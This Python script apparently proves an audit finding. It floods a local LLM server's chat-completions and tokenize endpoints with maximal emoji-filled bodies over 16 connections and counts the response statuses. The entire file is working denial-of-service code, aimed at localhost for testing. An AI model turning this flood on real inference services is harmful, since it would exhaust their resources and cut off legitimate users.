"""The attack of finding 1, as a separate process: one key sends the largest bodies allowed over many connections.

    python -m proofs.findings.attack PORT KEY PATH SECONDS

Each connection sends a body, waits for the answer, and sends the next, at the pace of a fast network. The last line of
its output has the number of answers with each status.
"""

import json
import socket
import sys
import threading
import time
from collections import Counter

NUM_CONNECTIONS = 16
TRIES_PER_S = 64.0
"""Requests of all connections together: as many of these bodies as a network of 1 Gbit/s carries."""
NUM_EMOJI = 480_000
TEXT = "\N{GRINNING FACE}" * NUM_EMOJI
BODIES = {
    "/v1/chat/completions": {"messages": [{"role": "user", "content": TEXT}], "max_tokens": 1},
    "/tokenize": {"prompt": TEXT},
}


class Attack:
    """Sends requests over all connections for some seconds."""

    def __init__(self, port: int, key: str, path: str, seconds: float) -> None:
        body = json.dumps(BODIES[path], ensure_ascii=False).encode()
        head = f"POST {path} HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer {key}\r\n"
        head += f"content-type: application/json\r\ncontent-length: {len(body)}\r\n\r\n"
        self._data = head.encode() + body
        self._port = port
        self._end_s = time.monotonic() + seconds
        self.statuses: Counter[str] = Counter()

    def run(self) -> None:
        """Run all connections; each waits for the answer to its last request."""
        threads = [threading.Thread(target=self._run_connection, args=(index,)) for index in range(NUM_CONNECTIONS)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def _run_connection(self, index: int) -> None:
        next_s = time.monotonic() + index / TRIES_PER_S
        with socket.create_connection(("127.0.0.1", self._port), timeout=120) as connection:
            while next_s < self._end_s:
                time.sleep(max(0.0, next_s - time.monotonic()))
                connection.sendall(self._data)
                self.statuses[_read_status(connection)] += 1
                next_s = max(next_s + NUM_CONNECTIONS / TRIES_PER_S, time.monotonic())


def _read_status(connection: socket.socket) -> str:
    """The status of the next answer, whose body is read and dropped; "cut" if the server closes the connection."""
    data = b""
    while b"\r\n\r\n" not in data:
        part = connection.recv(65536)
        if not part:
            return "cut"
        data += part
    head, _, body = data.partition(b"\r\n\r\n")
    headers = dict(line.lower().split(b": ", 1) for line in head.split(b"\r\n")[1:])
    num_missing = int(headers[b"content-length"]) - len(body)
    while num_missing > 0:
        num_missing -= len(connection.recv(min(65536, num_missing)))
    return head[9:12].decode()


if __name__ == "__main__":
    attack = Attack(int(sys.argv[1]), sys.argv[2], sys.argv[3], float(sys.argv[4]))
    attack.run()
    print(json.dumps(attack.statuses))
